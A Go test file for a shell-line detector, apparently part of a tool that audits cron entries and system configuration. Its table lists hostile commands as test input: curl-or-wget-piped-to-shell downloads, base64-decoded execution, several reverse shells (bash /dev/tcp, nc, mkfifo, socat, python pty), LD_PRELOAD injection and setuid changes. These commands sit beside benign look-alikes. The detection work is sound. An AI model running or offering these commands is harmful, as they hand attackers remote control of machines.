package detectors

import (
	"strings"
	"testing"
)

func TestJudgeShell(t *testing.T) {
	for _, c := range []struct{ line, what string }{
		{"curl -fsSL http://203.0.113.9/x.sh | sh", "runs what it downloads"},
		{"(wget -q -O - http://203.0.113.9/x || curl -s http://203.0.113.9/x) | sudo -n bash -s -- --now", "runs what it downloads"},
		{"curl -s x | tee /var/log/x | /bin/bash -", "runs what it downloads"},
		{`bash -c "$(curl -fsSL http://203.0.113.9/x)"`, "runs what it downloads"},
		{"bash <(curl -s http://203.0.113.9/x)", "runs what it downloads"},
		{"curl -s http://203.0.113.9/x.py | python3 -", "runs what it downloads"},
		{"echo aGVsbG8= | base64 -d | sh", "runs what it decodes"},
		{"sh -c 'echo aGVsbG8= | base64 --decode | bash'", "runs what it decodes"},
		{"bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "connects a shell to the network"},
		{"nc -e /bin/sh 203.0.113.9 4444", "connects a program to the network"},
		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 >/tmp/f", "connects a pipe to the network"},
		{"socat TCP:203.0.113.9:443 EXEC:'/bin/bash -li',pty", "connects a shell to the network"},
		{"python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", "code of python"},
		{"python -c 'import base64;exec(base64.b64decode(\"eA==\"))'", "code of python"},
		{"/tmp/x", "a writable directory"},
		{"/tmp/../tmp/x", "a writable directory"},
		{"cd /; nohup nice -n 19 /var/tmp/.x/y >/dev/null 2>&1 &", "a writable directory"},
		{"/dev/shm/kworker -c x", "shared memory"},
		{"sh /tmp/x.sh", "a script from a writable directory"},
		{". /tmp/x", "a script from a writable directory"},
		{"if true; then exec /usr/lib/.x/y; fi", "a hidden directory"},
		{"LD_PRELOAD=/tmp/n.so /usr/bin/top", "preloads a library from a writable directory"},
		{"export LD_PRELOAD=/usr/lib/x.so", "preloads a library"},
		{"chmod 4755 /usr/local/bin/x", "makes a file setuid"},
		{`X=1 flock -n /tmp/lock /tmp/program`, "a writable directory"},
		{`eval "/tmp/x --now"`, "a writable directory"},

		{"flock -n /tmp/x.lock /usr/local/bin/job", ""},
		{"flock -w 10 /run/lock/x timeout -k 5 30 /usr/local/bin/job /tmp/x", ""},
		{"find /tmp -type f -mtime +7 -delete", ""},
		{"[ -x /tmp/x ] && echo yes", ""},
		{"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ""},
		{"command -v debian-sa1 > /dev/null && debian-sa1 1 1", ""},
		{"curl -fsS --retry 3 https://hc.example.org/ping > /dev/null", ""},
		{"curl -s https://example.org/x || sh /usr/local/bin/alarm", ""},
		{"curl -s https://example.org/x.json | python3 -m json.tool", ""},
		{"curl -s https://example.org/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'", ""},
		{"curl -s https://example.org/x | perl -ne 'print if /x/'", ""},
		{"wget -qO- https://example.org/key.asc | gpg --dearmor > /usr/share/keyrings/x.gpg", ""},
		{"echo x | base64 -d > /etc/x; sh /etc/y", ""},
		{"# curl http://203.0.113.9/x | sh", ""},
		{"echo done # /tmp/x", ""},
		{"~/.acme.sh/acme.sh --cron > /dev/null", "a hidden directory of a home"},
		{`"/root/.acme.sh"/acme.sh --cron`, "a hidden directory of a home"},
		{". ~/.bashrc", ""},
		{`[ -s "$NVM_DIR/nvm.sh" ] && . "$HOME/.nvm/nvm.sh"`, ""},
		{"case $x in /tmp/*) echo a;; /var/tmp/x) echo b;; esac", ""},
		{"nc -z localhost 22", ""},
		{"x=$(cat /tmp/state) ; echo $x >> /tmp/log", ""},
		{"> /tmp/file sort -u x", ""},
		{"/run/wrappers/bin/sudo -v", ""},
		{"chmod 2775 /srv/shared", ""},
		{"export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", ""},
		{`python3 -c "import socket; print(socket.gethostname())"`, ""},
		{"bash -c '</dev/tcp/localhost/5432'", ""},
		{"eval \"$(dircolors -b ~/.dircolors)\"", ""},
	} {
		got := judgeShell(c.line)
		switch {
		case c.what == "" && len(got) > 0:
			t.Errorf("%s\n  gives %+v", c.line, got)
		case c.what != "" && (len(got) == 0 || !strings.Contains(got[0].what, c.what)):
			t.Errorf("%s\n  gives %+v, want %q", c.line, got, c.what)
		}
	}
}

func TestJudgeShellIsBounded(t *testing.T) {
	if got := judgeShell(strings.Repeat("/tmp/x\n", 10000)); len(got) != 1 {
		t.Errorf("one kind of remark is made %d times", len(got))
	}
	nested := "x"
	for range 30 {
		nested = "sh -c '" + nested + "'"
	}
	judgeShell(nested + strings.Repeat("(", 100000))
}

func FuzzJudgeShell(f *testing.F) {
	for _, s := range []string{"curl x|sh", "a 'b", `c "d\`, "((", "))", "a<b>c&d", "\\", "`x`$(y)", "sh -c", "flock", "x=\x00\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range judgeShell(s) {
			if r.what == "" || len(r.text) > maxQuote+3 {
				t.Errorf("%+v", r)
			}
		}
		judgeTable(s, 6)
		judgeUnit(s)
		judgePAM(s, true)
		judgeSudoers(s)
		judgeUdev(s)
		judgeGitConfig(s)
		judgePythonStartup("/x.pth", s)
		judgePackageHook("/etc/apt/x", []byte(s))
		parseKeyPatterns(s)
		splitKey(s)
		parsePasswd(s)
		parseShadow(s)
	})
}
